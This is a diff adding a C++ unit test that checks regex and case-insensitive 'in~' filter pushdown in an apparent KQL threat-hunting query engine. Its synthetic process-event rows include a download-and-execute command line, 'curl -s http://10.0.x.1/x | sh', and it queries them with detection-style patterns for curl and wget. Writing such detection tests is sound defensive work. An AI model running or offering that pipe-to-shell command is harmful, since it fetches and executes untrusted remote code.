@@ -85,5 +85,60 @@ TEST(Pushdown, TimeRangeAndHasSkipSegmentsWithTheSameResults) {
   EXPECT_LT(pushed->stats.rows_scanned, hidden->stats.rows_scanned);
 }
 
+// `matches regex` and `in~` run in the store when pushed down; the answers must not change.
+TEST(Pushdown, RegexAndInCiGiveTheSameRowsPushedOrNot) {
+  const auto& reg = events::SchemaRegistry::Hunting();
+  const events::TableDef* t = reg.Find("DeviceProcessEvents");
+  char tmpl[] = "/tmp/ward_kql_pushdown_XXXXXX";
+  std::string dir = mkdtemp(tmpl);
+  events::ColumnarStoreOptions so;
+  so.dir = dir;
+  so.seal_rows = 300;
+  so.block_rows = 64;
+  auto store = events::ColumnarStore::Open(so, reg);
+  ASSERT_TRUE(store.has_value()) << store.error().message();
+  const int64_t now = int64_t{1'764'000'000} * 10'000'000;
+  const char* const kFiles[] = {"curl", "CURL", "wget", "bash", "Wget.exe", ""};
+  for (int b = 0; b < 10; ++b) {
+    events::RowBatch batch;
+    batch.tenant_id = "tenant-a";
+    batch.device_id = std::string(40, 'a');
+    for (int i = b * 250; i < (b + 1) * 250; ++i) {
+      events::Row row;
+      row.table = t->id;
+      row.values.assign(t->columns.size(), std::monostate{});
+      row.values[t->Find("Timestamp")] = now - int64_t{i} * 10'000'000;
+      if (i % 11 != 0) row.values[t->Find("FileName")] = std::string(kFiles[i % 6]);  // some nulls
+      if (i % 13 != 0) {
+        row.values[t->Find("ProcessCommandLine")] =
+            i % 9 == 0 ? "curl -s http://10.0." + std::to_string(i % 7) + ".1/x | sh" : "ls -la /tmp/" + std::to_string(i);
+      }
+      batch.rows.push_back(std::move(row));
+    }
+    ASSERT_TRUE((*store)->Append(batch).ok());
+    if (b % 3 == 0) ASSERT_TRUE((*store)->Flush().ok());  // sealed segments and a memory tail
+  }
+  QueryOptions opts;
+  opts.tenant_id = "tenant-a";
+  opts.now_ticks = now;
+  auto both = [&](const std::string& pushed_q, const std::string& hidden_q, size_t want) {
+    auto pushed = RunQuery(pushed_q, opts, **store, reg);
+    auto hidden = RunQuery(hidden_q, opts, **store, reg);
+    ASSERT_TRUE(pushed.has_value()) << pushed.error().message();
+    ASSERT_TRUE(hidden.has_value()) << hidden.error().message();
+    EXPECT_EQ(Rows(*pushed), Rows(*hidden)) << pushed_q;
+    EXPECT_EQ(pushed->rows, want) << pushed_q;
+  };
+  const std::string cols = " | project Timestamp, FileName, ProcessCommandLine";
+  both("DeviceProcessEvents | where ProcessCommandLine matches regex @'curl .*http://[0-9.]+/'" + cols,
+       "DeviceProcessEvents | where iff(true, ProcessCommandLine, '') matches regex @'curl .*http://[0-9.]+/'" + cols, 256);
+  // A pattern that matches "" is not pushed (null strings are "" to KQL).
+  both("DeviceProcessEvents | where ProcessCommandLine matches regex @'^(curl)?'" + cols,
+       "DeviceProcessEvents | where iff(true, ProcessCommandLine, '') matches regex @'^(curl)?'" + cols, 2500);
+  both("DeviceProcessEvents | where FileName in~ ('curl', 'WGET.EXE')" + cols,
+       "DeviceProcessEvents | where iff(true, FileName, '') in~ ('curl', 'WGET.EXE')" + cols, 1136);
+  std::filesystem::remove_all(dir);
+}
+
 }  // namespace
 }  // namespace ward::kql
